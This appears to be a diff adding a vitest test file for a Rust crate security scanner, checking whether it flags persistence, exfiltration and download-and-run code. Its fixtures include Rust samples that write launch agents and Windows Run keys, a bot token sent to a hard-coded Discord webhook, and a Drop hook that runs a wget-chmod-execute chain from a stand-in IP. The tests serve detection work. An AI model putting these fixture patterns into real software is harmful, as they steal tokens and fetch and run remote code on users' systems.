@@ -1,0 +1,159 @@
+// Triggers and destinations judged by technique, through the real scanner: a documented act, a
+// helper behind a private module, a constant used by an explicit call, a service's own token sent
+// to that service, and a download-and-run script split into fragments. Each benign case has a
+// malicious twin that differs only in what makes it run or where it sends.
+import { describe, expect, it } from 'vitest';
+import { findingsOf, manifest, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
+import type { Files } from '../../../../test/fixtures/scanner/crates.js';
+import { atLeast } from '../types.js';
+import type { ScanReport } from '../types.js';
+
+const lib = (name: string, files: Record<string, string>): Files => ({
+  'Cargo.toml': manifest(name),
+  ...files,
+});
+const high = (r: ScanReport) => r.verdict !== 'clean' && atLeast(r.verdict, 'high');
+
+const agent = (doc: string, name: string) =>
+  lib('agentx', {
+    'src/lib.rs': [
+      'pub struct Agent { pub plist: String }',
+      'impl Agent {',
+      doc,
+      `    pub fn ${name}(&self) -> std::io::Result<()> {`,
+      '        let p = std::path::PathBuf::from(std::env::var("HOME").unwrap()).join("Library/LaunchAgents/org.example.x.plist");',
+      '        std::fs::write(&p, &self.plist)?;',
+      '        std::process::Command::new("launchctl").args(["load", "-w"]).arg(&p).status()?;',
+      '        Ok(())',
+      '    }',
+      '}',
+    ].join('\n'),
+  });
+
+const runKey = (caller: string) =>
+  lib('loginx', {
+    'src/lib.rs': ['mod run_key;', 'pub struct Item { pub name: String, pub exe: String }', caller].join(
+      '\n',
+    ),
+    'src/run_key.rs': [
+      'use winreg::{enums::*, RegKey};',
+      'const RUN: &str = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run";',
+      'pub fn set(name: &str, exe: &str) -> std::io::Result<()> {',
+      '    let key = RegKey::predef(HKEY_CURRENT_USER).open_subkey_with_flags(RUN, KEY_SET_VALUE)?;',
+      '    key.set_value(name, &exe)',
+      '}',
+      'pub fn exists(name: &str) -> bool {',
+      '    RegKey::predef(HKEY_CURRENT_USER).open_subkey(RUN).and_then(|k| k.get_value::<String, _>(name)).is_ok()',
+      '}',
+    ].join('\n'),
+  });
+
+const telegram = (url: string) =>
+  lib('tgx', {
+    'src/lib.rs': [
+      'pub struct Bot { token: String }',
+      'impl Bot {',
+      '    pub fn from_env() -> Option<Self> { Some(Bot { token: std::env::var("TELEGRAM_BOT_TOKEN").ok()? }) }',
+      '    pub fn say(&self, chat: &str, text: &str) {',
+      `        let url = format!("${url}", self.token);`,
+      '        let _ = ureq::post(&url).send_form(&[("chat_id", chat), ("text", text)]);',
+      '    }',
+      '}',
+    ].join('\n'),
+  });
+
+describe('explicit triggers', () => {
+  it('a pub fn whose doc says what it does to the system is an explicit call', async () => {
+    const r = await scanFiles(
+      agent('    /// Writes the plist and loads it with `launchctl load -w`.', 'activate'),
+    );
+    expect(high(r)).toBe(false);
+    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('documented as doing it');
+  });
+
+  it('the same act in an undocumented pub fn stays high', async () => {
+    const r = await scanFiles(agent('    // internal', 'activate'));
+    expect(worst(r, 'flow.persistence')).toBe('high');
+  });
+
+  it('a constant behind a private module takes the trigger of the explicit call that writes through it', async () => {
+    const r = await scanFiles(
+      runKey(
+        [
+          'impl Item {',
+          '    /// Turns start-at-login on for this app.',
+          '    pub fn set_enabled(&self) -> std::io::Result<()> { run_key::set(&self.name, &self.exe) }',
+          '    pub fn is_enabled(&self) -> bool { run_key::exists(&self.name) }',
+          '}',
+        ].join('\n'),
+      ),
+    );
+    expect(high(r)).toBe(false);
+    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('uses RUN');
+  });
+
+  it('the same constant written from a Default impl is persistence at high or above', async () => {
+    const r = await scanFiles(
+      runKey(
+        [
+          'impl Default for Item {',
+          '    fn default() -> Self { let _ = run_key::set("x", "y"); Item { name: String::new(), exe: String::new() } }',
+          '}',
+        ].join('\n'),
+      ),
+    );
+    expect(high(r)).toBe(true);
+    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('impl Default for Item');
+  });
+
+  it('a pub fn behind a `pub mod` is still the crate API', async () => {
+    const files = runKey('');
+    files['src/lib.rs'] = (files['src/lib.rs'] as string).replace('mod run_key;', 'pub mod run_key;');
+    expect(worst(await scanFiles(files), 'flow.persistence')).toBe('high');
+  });
+});
+
+describe('configured endpoints', () => {
+  it("a service's token named for it and sent only to its API stays below high", async () => {
+    const r = await scanFiles(telegram('https://api.telegram.org/bot{}/sendMessage'));
+    expect(high(r)).toBe(false);
+    expect(worst(r, 'code.exfiltration')).toBe('low');
+  });
+
+  it('the same token sent to a hard-coded webhook of another service is critical', async () => {
+    const r = await scanFiles(telegram('https://discord.com/api/webhooks/000/FAKE_TOKEN_FOR_TESTS_ONLY?{}'));
+    expect(worst(r, 'code.exfiltration')).toBe('critical');
+  });
+});
+
+describe('download-and-run scripts', () => {
+  const reaper = (steps: string[]) =>
+    lib('reapx', {
+      'src/lib.rs': [
+        'pub struct Guard;',
+        'impl Drop for Guard {',
+        '    fn drop(&mut self) {',
+        `        let script = [${steps.map((s) => JSON.stringify(s)).join(', ')}].join(" && ");`,
+        '        let _ = std::process::Command::new("/bin/sh").arg("-c").arg(script).spawn();',
+        '    }',
+        '}',
+      ].join('\n'),
+    });
+
+  it('fragments that fetch a file, mark it executable and run it are a download-exec from Drop', async () => {
+    const r = await scanFiles(
+      reaper([
+        'wget -q -O /tmp/r-FAKE-DO-NOT-RUN http://198.51.100.61/r',
+        'chmod +x /tmp/r-FAKE-DO-NOT-RUN',
+        '/tmp/r-FAKE-DO-NOT-RUN',
+      ]),
+    );
+    expect(worst(r, 'flow.download-exec')).toBe('critical');
+  });
+
+  it('fragments that only prepare a directory are no download-exec', async () => {
+    const r = await scanFiles(reaper(['mkdir -p /tmp/cache-dir', 'chmod +x /tmp/cache-dir/hook']));
+    expect(findingsOf(r, 'flow.download-exec')).toEqual([]);
+    expect(findingsOf(r, 'code.pipe-to-shell')).toEqual([]);
+  });
+});
